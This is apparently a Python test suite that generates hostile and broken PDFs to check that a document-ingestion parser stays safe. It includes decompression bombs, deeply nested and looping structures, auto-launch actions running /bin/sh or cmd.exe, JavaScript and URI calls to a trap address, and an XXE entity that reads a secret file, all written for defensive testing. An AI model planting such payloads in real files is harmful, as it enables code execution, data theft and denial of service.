"""Hostile and broken PDF files."""

from __future__ import annotations

import re
import zlib
from collections.abc import Iterator

from tests.hostile.case import PAGE, Case, Traps, lines, pdf

SOUND = "bao cao ket qua"  # of PAGE


def pdf_cases(traps: Traps) -> Iterator[Case]:
    yield from _broken()
    yield from _trees()
    yield from _numbers()
    yield from _contents()
    yield from _fonts()
    yield from _reaching_out(traps)


def _broken() -> Iterator[Case]:
    whole = pdf(PAGE)
    yield Case("cụt nửa.pdf", whole[: len(whole) // 2], "either")
    yield Case("chỉ có đầu.pdf", whole[:40], "refused", "PDF")
    yield Case("toàn số không.pdf", b"%PDF-1.7\n" + bytes(5000), "refused", "PDF")
    yield Case("rác trước đầu.pdf", b"x" * 500 + whole, "either")
    noise = bytes((n * 73 + 41) % 256 for n in range(20_000))
    yield Case("rác sau đầu.pdf", b"%PDF-1.7\n" + noise, "refused", "PDF")
    yield Case("mất bảng xref.pdf", whole[: whole.rindex(b"xref\n0")], "either")
    yield Case(
        "startxref sai.pdf", re.sub(rb"startxref\n\d+", b"startxref\n99999999", whole), "either"
    )
    # An encryption dictionary that no empty password opens: PDF 32000-1, 7.6.3.
    lock = b"/ID[<01><01>]/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<%b>/U<%b>>>" % (
        b"4d" * 32,
        b"7a" * 32,
    )
    yield Case("đặt mật khẩu.pdf", pdf(PAGE, trailer=lock), "refused", "mật khẩu")
    yield Case("mã hóa kiểu lạ.pdf", pdf(PAGE, trailer=b"/Encrypt<</Filter/La/V 99>>"), "refused")
    yield Case("prev trỏ vòng.pdf", pdf(PAGE, trailer=b"/Prev 9"), "either")
    looped = pdf(PAGE)
    start = looped.rindex(b"startxref\n") + len(b"startxref\n")
    place = looped[start:].split(b"\n")[0]
    yield Case("prev trỏ chính nó.pdf", pdf(PAGE, trailer=b"/Prev " + place), "either")


def _article(number: int) -> bytes:
    """A page that no other looks like: what stands on every page is a running head."""
    words = (
        "cap uy",
        "chi bo",
        "van phong",
        "ban to chuc",
        "uy ban kiem tra",
        "dang vien",
        "can bo",
    )
    said = (
        f"{k}. Noi {words[number * k % 7]} gui so lieu {number * k} cho {words[(number + k) % 7]}."
        for k in range(2, 9)
    )
    return lines(f"Dieu {number}. Nhiem vu {words[number % 7]}", *said)


def _trees() -> Iterator[Case]:
    yield Case(
        "hai nghìn trang.pdf",
        pdf(*(_article(number) for number in range(1, 2001))),
        "ingested",
        "Dieu 2000",
    )
    for name, count in (("số trang âm.pdf", -5), ("hai tỷ trang.pdf", 2**31 - 1)):
        yield Case(name, pdf(PAGE, tree=b"/Kids[4 0 R]/Count %d" % count), "either")
    yield Case("không có trang.pdf", pdf(tree=b"/Kids[]/Count 0"), "refused")
    yield Case("cây trang vòng.pdf", pdf(PAGE, tree=b"/Kids[2 0 R 4 0 R]/Count 2"), "either")
    nodes = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(4, 20_004)]
    yield Case("cây trang sâu.pdf", pdf(PAGE, tree=b"/Kids[4 0 R]/Count 1", more=nodes), "either")
    outline = (
        b"<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>",
        b"<</Title(Muc luc)/Parent 4 0 R/Next 5 0 R/First 5 0 R/Dest[6 0 R/Fit]>>",
    )
    yield Case(
        "mục lục vòng.pdf", pdf(PAGE, catalog=b"/Outlines 4 0 R", more=outline), "ingested", SOUND
    )
    form = (
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>/Length 5>>"
        b"stream\n/X Do\nendstream"
    )
    yield Case(
        "hình tự vẽ mình.pdf",
        pdf(PAGE + b" /X Do", more=[form], resources=b"/XObject<</X 4 0 R>>"),
        "ingested",
        SOUND,
    )
    yield Case(
        "đối tượng trỏ vòng.pdf", pdf(PAGE, page=b"/MediaBox 4 0 R", more=[b"4 0 R"]), "either"
    )
    deep = b"[" * 50_000 + b"]" * 50_000
    yield Case("mảng lồng sâu.pdf", pdf(PAGE, catalog=b"/La " + deep), "either")


def _numbers() -> Iterator[Case]:
    huge = b"9" * 400
    for name, box in (
        ("khổ giấy vô cùng.pdf", b"0 0 1e308 1e308"),
        ("khổ giấy âm.pdf", b"595 842 0 0"),
        ("khổ giấy không.pdf", b"0 0 0 0"),
        ("khổ giấy 400 chữ số.pdf", b"0 0 %b %b" % (huge, huge)),
    ):
        yield Case(name, pdf(PAGE, page=b"/MediaBox[%b]" % box), "either")
    yield Case("xoay 45 độ.pdf", pdf(PAGE, page=b"/MediaBox[0 0 595 842]/Rotate 45"), "either")
    far = b"BT /F 1e30 Tf 1e30 -1e30 Td (Dieu 5. Bao cao) Tj ET"
    yield Case("chữ ở xa vô tận.pdf", pdf(far), "either")
    yield Case("cỡ chữ không.pdf", pdf(PAGE.replace(b"/F 12 Tf", b"/F 0 Tf")), "either")
    yield Case("ma trận suy biến.pdf", pdf(b"0 0 0 0 0 0 cm " + PAGE), "either")
    yield Case("độ dài luồng âm.pdf", pdf(PAGE).replace(b"/Length", b"/Length -"), "either")


def _contents() -> Iterator[Case]:
    packed = zlib.compress(PAGE + b" " * (150 * 2**20), 9)
    yield Case(
        "luồng nén bung to.pdf",
        pdf(b"<</Filter/FlateDecode/Length %d>>stream\n%b\nendstream" % (len(packed), packed)),
        "either",
    )
    chain = zlib.compress(zlib.compress(zlib.compress(bytes(100 * 2**20), 9), 9), 9)
    yield Case(
        "nén ba lần.pdf",
        pdf(
            b"<</Filter[/FlateDecode/FlateDecode/FlateDecode]/Length %d>>stream\n%b\nendstream"
            % (len(chain), chain)
        ),
        "either",
    )
    yield Case(
        "luồng nén hỏng.pdf",
        pdf(b"<</Filter/FlateDecode/Length 9>>stream\nkhong nen\nendstream"),
        "either",
    )
    yield Case("một dòng một MB.pdf", pdf(lines("Dieu 5. " + "bao cao " * 130_000)), "either")
    # Every letter in a place of its own: what a drawing of a map is made of.
    spots = b"".join(
        b"1 0 0 1 %d %d Tm (a) Tj " % (n % 590, n // 590 % 840) for n in range(100_000)
    )
    yield Case("trăm nghìn chữ rời.pdf", pdf(b"BT /F 1 Tf %bET" % spots), "either")
    drawn = b"".join(b"%d %d m %d %d l S " % (n % 595, 0, n % 595, 842) for n in range(100_000))
    yield Case("trăm nghìn nét vẽ.pdf", pdf(drawn + PAGE), "ingested", SOUND)
    yield Case("q không đóng.pdf", pdf(b"q " * 200_000 + PAGE), "either")
    yield Case("lệnh lạ.pdf", pdf(b"La Lung %% << [ ( " + PAGE), "either")


def _fonts() -> Iterator[Case]:
    names = b" ".join(b"/g%d" % n for n in range(256))
    no_map = b"<</Type/Font/Subtype/Type1/BaseFont/La/Encoding<</Differences[0 %b]>>>>" % names
    yield Case("phông không bảng mã.pdf", pdf(PAGE, font=no_map), "either")
    for name, target in (
        ("phông nửa ký tự.pdf", b"D800"),
        ("phông ra số không.pdf", b"0000"),
        ("phông ra chữ dài.pdf", b"0041" * 5000),
    ):
        cmap = (
            b"/CIDInit/ProcSet findresource begin 12 dict begin begincmap "
            b"1 begincodespacerange<00><FF>endcodespacerange "
            b"1 beginbfrange<00><FF><%b>endbfrange endcmap end end" % target
        )
        mapped = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 4 0 R>>"
        stream = b"<</Length %d>>stream\n%b\nendstream" % (len(cmap), cmap)
        yield Case(name, pdf(PAGE, font=mapped, more=[stream]), "either")
    yield Case("phông trỏ vòng.pdf", pdf(PAGE, font=b"3 0 R"), "either")


def _reaching_out(traps: Traps) -> Iterator[Case]:
    address, secret = traps.address.encode(), traps.secret.encode()
    actions = (
        b"/OpenAction<</S/URI/URI(%b/mo)/Next<</S/JavaScript/JS(app.launchURL\\('%b/js'\\))>>>>"
        % (address, address)
    )
    yield Case("tự mở địa chỉ.pdf", pdf(PAGE, catalog=actions), "ingested", SOUND)
    launch = b"/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>"
    yield Case("tự chạy chương trình.pdf", pdf(PAGE, catalog=launch), "ingested", SOUND)
    outside = b"<</F<</Type/Filespec/F(%b)>>/Length 0>>stream\n\nendstream" % secret
    yield Case("nội dung ở tệp khác.pdf", pdf(PAGE, outside), "ingested", SOUND)
    remote = b"<</F<</FS/URL/F(%b/luong)>>/Length 0>>stream\n\nendstream" % address
    yield Case("nội dung ở mạng.pdf", pdf(PAGE, remote), "ingested", SOUND)
    xfa = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://%b">'
        b'<!ENTITY h SYSTEM "%b/xfa">]><x>&e;&h;</x>' % (secret, address)
    )
    stream = b"<</Length %d>>stream\n%b\nendstream" % (len(xfa), xfa)
    form = b"/AcroForm<</XFA 4 0 R/Fields[]>>"
    yield Case("biểu mẫu XFA.pdf", pdf(PAGE, catalog=form, more=[stream]), "ingested", SOUND)
